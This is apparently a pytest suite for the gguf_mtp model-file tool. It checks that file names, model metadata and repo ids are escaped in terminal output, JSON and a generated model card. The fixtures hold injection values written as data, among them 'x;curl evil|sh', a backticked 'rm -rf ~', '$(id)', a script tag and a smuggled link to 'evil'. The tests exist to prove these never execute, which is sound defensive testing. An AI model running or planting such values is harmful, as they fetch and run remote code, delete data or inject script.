"""Everything printed is safe: hostile names, JSON errors, the model card, repo ids and the Hub's logging.

Issue 11 items 10, 11, 16, 17 and issue 15 items 3, 5, 8. Names with bytes that are not UTF-8 run in a
subprocess with ``PYTHONIOENCODING=utf-8:strict`` (what an ordinary ``en_US.UTF-8`` terminal gives
Python; ``C.UTF-8`` would quietly pass raw bytes through), so a missed escape is a UnicodeEncodeError.
"""

from __future__ import annotations

import json
import logging
import os
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import pytest
from gguf import GGUFValueType

from gguf_mtp import HubError, compose
from gguf_mtp.cli import main
from gguf_mtp.files.digests import FileDigest
from gguf_mtp.format.header import encode_kv, read_header, serialize_header
from gguf_mtp.release.card import CardRequest, ModelFacts, Provenance, render_model_card
from gguf_mtp.testing.tiny_models import write_target

BAD_NAME = "Bad\udcff\udcfeName\nMTP: yes (1 block, blk.3)"  # undecodable bytes and a fake verdict line
BAD_FILE = os.fsdecode(b"bad-\xff-name.gguf")


def _rewrite(source: Path, dest: Path, name: str, tensor_from: str, tensor_to: str) -> Path:
    """``source`` with ``general.name`` = ``name`` and one tensor renamed, written as ``dest``."""
    header = read_header(source)
    kvs = [encode_kv("general.name", GGUFValueType.STRING, name) if k == "general.name" else v
           for k, v in header.kvs.items()]
    tensors = [replace(t, name=t.name.replace(tensor_from, tensor_to)) for t in header.tensors]
    with open(source, "rb") as src, open(dest, "wb") as out:
        out.write(serialize_header(header.version, kvs, tensors, header.alignment))
        src.seek(header.data_offset)
        out.write(src.read())
    return dest


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory, nemotron_draft0: Path) -> Path:
    """A single-file target with invalid UTF-8 in general.name, a tensor name and its own file name,
    and a composite of it (with the same names) next to it."""
    folder = tmp_path_factory.mktemp("hostile")
    plain = write_target(folder / "plain", name="Tiny")
    target = _rewrite(plain, folder / BAD_FILE, BAD_NAME, "attn_norm", "attn_n\udcffrm")
    compose(target, nemotron_draft0, folder / "composite", progress=False)
    return target


def _cli(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if k not in ("PYTHONIOENCODING", "PYTHONUTF8")}
    env.update(LC_ALL="C.UTF-8", PYTHONIOENCODING="utf-8:strict", HF_HUB_OFFLINE="1")
    return subprocess.run([sys.executable, "-m", "gguf_mtp", *args], cwd=cwd, env=env, capture_output=True,
                          text=True, encoding="utf-8", errors="strict", timeout=120)


def _no_crash(result: subprocess.CompletedProcess[str], status: int) -> None:
    assert result.returncode == status, result.stderr
    assert "Traceback" not in result.stderr and "UnicodeEncodeError" not in result.stderr


def test_inspect_text_escapes_every_name(hostile: Path) -> None:
    result = _cli("inspect", BAD_FILE, "--tensors", cwd=hostile.parent)
    _no_crash(result, 0)
    assert "bad-\\xff-name.gguf" in result.stdout
    assert "Bad\\xff\\xfeName\\x0aMTP: yes (1 block, blk.3)" in result.stdout  # the fake line stays in its line
    assert "blk.0.attn_n\\xffrm.weight" in result.stdout
    assert result.stdout.splitlines()[-1] == "MTP: no"


def test_inspect_json_is_valid_utf8_json(hostile: Path) -> None:
    result = _cli("inspect", BAD_FILE, "--json", "--tensors", cwd=hostile.parent)
    _no_crash(result, 0)
    result.stdout.encode("utf-8", "strict")
    report = json.loads(result.stdout)
    assert report["name"] == "Bad\\xff\\xfeName\nMTP: yes (1 block, blk.3)"
    assert report["files"][0]["name"] == "bad-\\xff-name.gguf"
    assert any(t["name"] == "blk.0.attn_n\\xffrm.weight" for t in report["tensors"])
    assert "\\ud" not in result.stdout  # no lone surrogate escapes: strict JSON parsers refuse them


def test_verify_and_compose_dry_run_print_hostile_names(hostile: Path, nemotron_draft0: Path) -> None:
    composite = hostile.parent / "composite" / BAD_FILE
    result = _cli("verify", str(composite), "--target", BAD_FILE, "--no-llama", cwd=hostile.parent)
    _no_crash(result, 0)
    assert "verified" in result.stdout.splitlines()[-1]
    result = _cli("verify", BAD_FILE, "--no-llama", cwd=hostile.parent)  # not a composite: a failed check
    _no_crash(result, 2)
    result = _cli("compose", BAD_FILE, str(nemotron_draft0), "-o", "out", "--dry-run", cwd=hostile.parent)
    _no_crash(result, 0)
    assert "bad-\\xff-name.gguf" in result.stdout
    result = _cli("compose", BAD_FILE, str(nemotron_draft0), "-o", "out", "--dry-run", "--json", cwd=hostile.parent)
    _no_crash(result, 0)
    json.loads(result.stdout)


def test_publish_dry_run_card_escapes_hostile_names(hostile: Path) -> None:
    result = _cli("publish", "composite", "--repo", "me/Tiny-MTP", "--dry-run", cwd=hostile.parent)
    _no_crash(result, 0)
    card = result.stdout.split("----- README.md -----", 1)[1]
    assert "`Bad\\xff\\xfeName\\x0aMTP: yes (1 block, blk.3)`" in card
    assert "\nMTP: yes" not in card
    assert "'bad-\\xff-name.gguf'" in card  # shell-quoted: a backslash is not safe unquoted


def test_an_error_naming_a_hostile_file_is_one_escaped_line(tmp_path: Path) -> None:
    (tmp_path / BAD_FILE).write_bytes(b"not a gguf")
    result = _cli("inspect", BAD_FILE, cwd=tmp_path)
    _no_crash(result, 2)
    assert result.stderr.count("\n") == 1 and result.stderr.startswith("gguf-mtp: error: bad-\\xff-name.gguf: ")


# ------------------------------------------------------------------------------- the model card (item 16)

HOSTILE = "# Fake\n| sha | row |<script>alert(1)</script> x;curl evil|sh `rm -rf ~`"


def _hostile_card(tmp_path: Path) -> str:
    files = [FileDigest(tmp_path / "x;curl evil|sh.gguf", 10, "a" * 64), FileDigest(tmp_path / "$(id)`w`.gguf", 20,
                                                                                   "b" * 64)]
    facts = ModelFacts("nemotron_h_moe", HOSTILE, 3, 1, 44, 18, ("BF16", "F32"), base_model="x/y\n# z")
    provenance = Provenance(target_repo="evil/repo) [click](http://evil", target_revision="main`|<b>",
                            target_files=(HOSTILE,), head_source="../../" + HOSTILE, head_revision="v1\n# Fake")
    return render_model_card(CardRequest("me/Tiny-MTP", files, facts, "0.1.0", provenance=provenance))


def test_card_interpolations_add_no_markdown_or_html(tmp_path: Path) -> None:
    card = _hostile_card(tmp_path)
    body = card.split("\n---\n", 1)[1]
    assert "<script>" not in card and "<b>" not in card
    assert [line for line in body.splitlines() if line.startswith("#")] == [
        "# Tiny\\-MTP", "## Where it comes from", "## Files", "## Run it", "## Check it"]
    assert "\\# Fake\\\\x0a\\| sha \\| row \\|&lt;script&gt;" in body  # renders as "# Fake\\x0a| sha | row |<script>"
    # no link but to Hub repos whose ids the Hub accepts: the other one is shown literally, as code
    assert "| target quant | `evil/repo) [click](http://evil` at main\\`\\|&lt;b&gt; |" in body
    rows = [line for line in body.splitlines() if line.startswith("| ")]
    sha_rows = [line for line in rows if "bytes" in line]
    assert len(sha_rows) == 2 and all(line.count(" | ") == 2 for line in sha_rows)  # three cells, no extra ones
    assert "pypi.org" not in card and "https://" not in body.replace("https://huggingface.co/", "")


def test_card_shell_commands_quote_every_argument(tmp_path: Path) -> None:
    import shlex

    card = _hostile_card(tmp_path)
    commands = [line for block in card.split("```sh\n")[1:] for line in block.split("```")[0].splitlines()]
    assert commands[0] == "hf download me/Tiny-MTP --local-dir Tiny-MTP"
    assert "llama-server -m 'x;curl evil|sh.gguf' --spec-type draft-mtp --spec-draft-n-max 3" in commands
    assert "sha256sum 'x;curl evil|sh.gguf' '$(id)`w`.gguf'" in commands
    for line in commands:  # each command parses back to exactly the words intended, nothing runs inside
        words = shlex.split(line)
        assert not any(w in (";", "|", "&&") for w in words)
    assert ["gguf-mtp", "verify", "x;curl evil|sh.gguf"] in [shlex.split(line) for line in commands]
    assert shlex.split(commands[-1], comments=True) == [
        "gguf-mtp", "bench", "x;curl evil|sh.gguf", "--server", "PATH/TO/llama-server"
    ]


def test_card_front_matter_keeps_only_valid_repo_ids(tmp_path: Path) -> None:
    import huggingface_hub

    data = huggingface_hub.ModelCard(_hostile_card(tmp_path)).data.to_dict()
    assert "base_model" not in data or data["base_model"] is None


# ------------------------------------------------------------------------------- repo ids (item 17)


@pytest.mark.parametrize("repo", ["me/x\n", "me/../x", "me/x/y", "x", "me/x--y", " me/x"])
def test_publish_refuses_a_malformed_repo_id(hostile: Path, repo: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["publish", str(hostile.parent / "composite"), "--repo", repo, "--dry-run"]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "--repo" in err and "is not a Hub repo id (OWNER/NAME)" in err


def test_publish_refuses_malformed_provenance_repo_ids(hostile: Path, capsys: pytest.CaptureFixture[str]) -> None:
    composite = str(hostile.parent / "composite")
    assert main(["publish", composite, "--repo", "me/x", "--dry-run", "--target-repo", "a/b\n"]) == 2
    assert "--target-repo 'a/b\\n' is not a Hub repo id" in capsys.readouterr().err
    assert main(["publish", composite, "--repo", "me/x", "--dry-run", "--base-model", "a/../b"]) == 2
    assert "--base-model" in capsys.readouterr().err


@pytest.mark.parametrize("flag", ["--target-repo", "--head-repo", "--out-repo"])
def test_pipeline_refuses_malformed_repo_ids_before_creating_anything(
    tmp_path: Path, flag: str, capsys: pytest.CaptureFixture[str]
) -> None:
    repos = {"--target-repo": "o/t", "--head-repo": "o/h", "--out-repo": "o/out"}
    repos[flag] = "o/x\n"
    argv = ["pipeline", "--target-files", "m.gguf", "--work-dir", str(tmp_path / "work")]
    for key, value in repos.items():
        argv += [key, value]
    assert main(argv) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and f"{flag} 'o/x\\n' is not a Hub repo id" in err
    assert not (tmp_path / "work").exists()


def test_convert_refuses_a_repo_id_with_a_trailing_newline(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["convert", "nvidia/Head\n", "-o", str(tmp_path / "d.gguf"), "--block", "3"]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "not a Hub repo id" in err


# ------------------------------------------------------------------------------- tokens (item 10)


def test_a_non_ascii_token_is_one_line_for_publish_and_convert(
    hostile: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from support.hub_standin import RecordingHub

    from gguf_mtp.release.publish import publish

    monkeypatch.setenv("HF_TOKEN", "hf_\u00e9t\u00e9")
    monkeypatch.delenv("HF_HUB_OFFLINE", raising=False)
    hub = RecordingHub()
    with pytest.raises(HubError, match="^HF_TOKEN contains non-ASCII characters"):
        publish(hostile.parent / "composite", "me/x", api=hub, progress=False)
    assert hub.calls == []
    assert main(["convert", "nvidia/Head", "-o", str(tmp_path / "d.gguf"), "--block", "3"]) == 2
    assert capsys.readouterr().err.startswith("gguf-mtp: error: HF_TOKEN contains non-ASCII characters")


# ------------------------------------------------------------------------------- JSON errors (issue 15 item 5)


@pytest.mark.parametrize(
    "argv",
    [
        ["inspect", "missing.gguf", "--json"],
        ["verify", "missing.gguf", "--json"],
        ["compose", "missing.gguf", "draft.gguf", "-o", "out", "--json"],
        ["extract", "missing.gguf", "-o", "d.gguf", "--json"],
        ["strip", "missing.gguf", "-o", "out", "--json"],
        ["publish", "missing", "--repo", "me/x", "--dry-run", "--json"],
    ],
)
def test_json_errors_are_a_json_object_on_stdout(
    argv: list[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    assert main(argv) == 2
    captured = capsys.readouterr()
    error = json.loads(captured.out)
    assert error["exit_status"] == 2 and error["error"] and set(error) == {"error", "path", "exit_status"}
    assert captured.err.count("\n") == 1 and error["error"] in captured.err
    if error["path"] is not None:
        assert error["path"] in captured.err


def test_json_interrupt_is_a_json_object_too(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def interrupted(*args: object, **kwargs: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr("gguf_mtp.check.inspect.inspect", interrupted)
    assert main(["inspect", "x.gguf", "--json"]) == 130
    assert json.loads(capsys.readouterr().out) == {"error": "interrupted", "path": None, "exit_status": 130}


def test_without_json_stdout_stays_empty_on_errors(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["inspect", "missing.gguf"]) == 2
    assert capsys.readouterr().out == ""


# ------------------------------------------------------------------------------- Hub logging (issue 15 item 3)


def _hub_retry_warning() -> None:
    logging.getLogger("huggingface_hub.utils._http").warning("Retrying in 1s [Retry 1/5].")


@pytest.mark.parametrize(("verbose", "shown"), [(False, 0), (True, 1)])
def test_hub_retry_warnings_print_once_and_only_with_v(
    verbose: bool, shown: int, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def failing_inspect(*args: object, **kwargs: object) -> None:
        _hub_retry_warning()
        raise HubError("cannot reach the Hub", "hf://o/r/x.gguf")

    monkeypatch.setattr("gguf_mtp.check.inspect.inspect", failing_inspect)
    hub_logger = logging.getLogger("huggingface_hub")
    handlers = hub_logger.handlers
    stream_handler = logging.StreamHandler(sys.stderr)  # what huggingface_hub installs, bound to this capture
    monkeypatch.setattr(hub_logger, "handlers", [stream_handler])
    argv = (["-v"] if verbose else []) + ["inspect", "hf://o/r/x.gguf"]
    try:
        assert main(argv) == 2
    finally:
        hub_logger.handlers = handlers
    err = capsys.readouterr().err
    assert err.count("Retrying in 1s") == shown
    assert err.splitlines()[-1] == "gguf-mtp: error: hf://o/r/x.gguf: cannot reach the Hub"
